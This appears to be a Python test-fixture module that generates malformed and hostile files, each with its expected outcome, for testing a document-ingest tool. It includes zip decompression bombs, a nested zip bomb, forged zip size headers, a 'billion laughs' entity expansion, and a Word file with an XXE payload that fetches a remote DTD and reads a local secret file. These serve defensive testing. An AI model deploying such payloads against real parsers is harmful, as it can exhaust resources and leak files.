"""Files that a shared folder may hold and nobody would write a reader for: made here, each with
what an ingest may say of it. Real readers of .doc, .pdf and .rtf may turn a refusal into a notice,
so some may be either."""

from __future__ import annotations

import io
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

PAPER = """示例市科学技术局2025年科普工作要点

一、开展科普活动
组织科技工作者走进社区。

二、加强组织领导
落实责任，抓好宣传。

示例市科学技术局
2025年3月1日
"""
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RIGHT_TO_LEFT = "\u202e"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_LINKS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


@dataclass(frozen=True)
class Bad:
    """A file and what may become of it: result in `results`, reason with `says` in it."""

    data: bytes
    results: tuple[str, ...]
    says: str = ""


def package(**members: bytes | str) -> bytes:
    """A zip; a_b__c_xml is a_b/c.xml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), data)
    return buffer.getvalue()


def word(body: str, before: str = "") -> bytes:
    """A Word file of that body; `before` stands between declaration and document."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}'
        f"<w:document {W}><w:body>{body}</w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _LINKS)
        archive.writestr("word/document.xml", document)
    return buffer.getvalue()


def paragraphs(*texts: str) -> str:
    """Paragraphs of a Word body."""
    return "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)


def lying(data: bytes, size: int) -> bytes:
    """The package with every member said to unpack to `size` bytes, in both places."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = out.find(mark)
        while start >= 0:
            struct.pack_into("<L", out, start + at, size)
            start = out.find(mark, start + 4)
    return bytes(out)


def under_password(data: bytes) -> bytes:
    """The package with every member marked as encrypted."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(mark)
        while start >= 0:
            out[start + at] |= 1
            start = out.find(mark, start + 4)
    return bytes(out)


def _nested() -> bytes:
    inner = package(a=b"\0" * 1_000_000)
    for _ in range(4):
        inner = package(**{f"n{at}": inner for at in range(8)})
    return inner


def _laughs() -> bytes:
    names = [f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 10)]
    before = f'<!DOCTYPE w [<!ENTITY e0 "笑">{"".join(names)}]>'
    return word(paragraphs("&e9;"), before)


def outside(secret: Path) -> bytes:
    """A Word file that asks for another file and for the network."""
    before = (
        f'<!DOCTYPE w SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
    )
    return word(paragraphs(*PAPER.splitlines(), "正文&s;结束。"), before)


_FAILED, _SKIPPED = ("failed",), ("skipped",)
_EITHER = ("failed", "added", "unchanged")
_PICTURE = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 20
_RTF = b"{\\rtf1\\ansi\\ansicpg936 " + PAPER.encode("gbk").hex("|").replace("|", "\\'").encode()
_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
_SHEET = package(xl__workbook_xml=b"<x/>")
_PLAIN = word(paragraphs(*PAPER.splitlines()))

BAD: dict[str, Bad] = {
    # packages
    "炸弹.docx": Bad(word("<w:p/>" + " " * 40_000_000), _FAILED, "unpacks to more"),
    "嵌套.docx": Bad(_nested(), _FAILED, "unpack"),
    "谎报.docx": Bad(lying(word(" " * 30_000_000), 900), _FAILED, "damaged"),
    "谎报多.docx": Bad(lying(_PLAIN, 3_000_000_000), _FAILED, "unpacks to more"),
    "十亿.docx": Bad(_laughs(), _EITHER),
    "断.docx": Bad(_PLAIN[: len(_PLAIN) // 2], _FAILED, "damaged"),
    "空包.docx": Bad(b"PK\x05\x06" + bytes(18), _FAILED),
    "加密.docx": Bad(under_password(_PLAIN), _FAILED, "password"),
    "加密二.docx": Bad(
        OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(5000), _FAILED, "password"
    ),
    "表.docx": Bad(_SHEET, _FAILED, "spreadsheet"),
    # not what the name says
    "旧.docx": Bad(OLE + bytes(2000), _FAILED),
    "页.docx": Bad(f"<html><body><p>网上的话。{PAPER}</p></body></html>".encode(), ("added",)),
    "版.docx": Bad(_PDF, _FAILED),
    "富.docx": Bad(_RTF + b"}", _EITHER),
    "文.docx": Bad(PAPER.replace("社区", "学校").encode(), ("added",)),
    "图.docx": Bad(_PICTURE, _FAILED, "OCR"),
    "图.txt": Bad(_PICTURE, _FAILED, "OCR"),
    "真.txt": Bad(word(paragraphs(*PAPER.replace("社区", "乡村").splitlines())), ("added",)),
    # nothing in it
    "空.txt": Bad(b"", _FAILED, "empty"),
    "标记.txt": Bad(b"\xef\xbb\xbf", _FAILED, "empty"),
    "标记宽.txt": Bad(b"\xff\xfe", _FAILED, "empty"),
    "零.txt": Bad(bytes(5000), _FAILED, "not a text file"),
    "零.docx": Bad(bytes(5000), _FAILED, "damaged"),
    "杂.txt": Bad(bytes(range(1, 256)) * 8, _FAILED),
    # other kinds, passed over
    "扫描.JPG": Bad(_PICTURE, _SKIPPED, "OCR"),
    "扫描.tif": Bad(b"II*\0" + bytes(99), _SKIPPED, "OCR"),
    "名册.xlsx": Bad(_SHEET, _SKIPPED, "spreadsheet"),
    "讲.pptx": Bad(package(ppt__presentation_xml=b"<x/>"), _SKIPPED, "slides"),
    "资料.zip": Bad(package(a=b"x"), _SKIPPED, "unpack"),
    "资料.rar": Bad(b"Rar!\x1a\x07\x01\x00", _SKIPPED, "unpack"),
    "资料.7z": Bad(b"7z\xbc\xaf\x27\x1c", _SKIPPED, "unpack"),
    "版式.ofd": Bad(package(OFD_xml=b"<x/>"), _SKIPPED, "PDF or Word"),
    "装.exe": Bad(b"MZ" + bytes(99), _SKIPPED, "program"),
    "录音.mp3": Bad(b"ID3", _SKIPPED, "sound"),
    "信.eml": Bad(b"From: a", _SKIPPED, "e-mail"),
    "去.lnk": Bad(b"L\0\0\0", _SKIPPED, "shortcut"),
    "记.abc": Bad(PAPER.encode("gb18030"), _SKIPPED, ".txt"),
    "网.aspx": Bad(b"<!DOCTYPE html><html></html>", _SKIPPED, ".html"),
    "无名": Bad(bytes(range(256)), _SKIPPED, "not known"),
    "词.xml": Bad(
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>', _SKIPPED, "as XML"
    ),
    # readable whatever the ending
    "改名.zip": Bad(word(paragraphs(*PAPER.replace("社区", "企业").splitlines())), ("added",)),
    "没有名": Bad(word(paragraphs(*PAPER.replace("社区", "军营").splitlines())), ("added",)),
    "旧文": Bad(OLE + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(900), _FAILED),
    "版文.jpg": Bad(_PDF, _FAILED),
}
QUIET = ("~$要点.docx", ".隐藏.txt", "Thumbs.db", "desktop.ini", ".DS_Store", "~WRL0001.tmp")
